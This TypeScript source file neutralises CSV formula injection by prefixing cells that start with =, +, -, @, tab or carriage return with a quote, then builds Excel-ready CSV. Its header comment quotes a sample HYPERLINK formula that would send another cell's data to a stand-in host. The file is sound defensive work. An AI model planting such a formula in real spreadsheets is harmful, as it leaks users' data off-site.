import Papa from 'papaparse';

/*
 * Files staff open in Excel (exports, link lists, reminder lists) carry names and units from a
 * roster anyone in an agency may have typed. A cell that starts with = + - @, a tab or a carriage
 * return is read by Excel and LibreOffice as a formula: `=HYPERLINK("http://x/?c="&F3,"Klik")` in
 * a name would send the next column (another rater's link) off-site. OWASP's recipe: prefix such a
 * cell with a single quote, which spreadsheets show as text. The same rule for CSV and XLSX.
 */

const formulaStart = /^[=+\-@\t\r]/;

/** A cell safe to open in a spreadsheet: text that would start a formula gets a leading '. Numbers stay numbers. */
export function spreadsheetCell<T>(value: T): T | string {
  return typeof value === 'string' && formulaStart.test(value) ? `'${value}` : value;
}

/**
 * CSV for Excel: a byte-order mark (so Excel reads UTF-8), every cell through spreadsheetCell.
 * `quotes`: per column, whether to quote it always (NIPs and phone numbers, so Excel keeps them as text).
 */
export function csvText(fields: readonly string[], rows: readonly (readonly unknown[])[], quotes: boolean | boolean[] = false): string {
  return `\uFEFF${Papa.unparse({ fields: fields.map(spreadsheetCell), data: rows.map((row) => row.map(spreadsheetCell)) }, { quotes })}`;
}
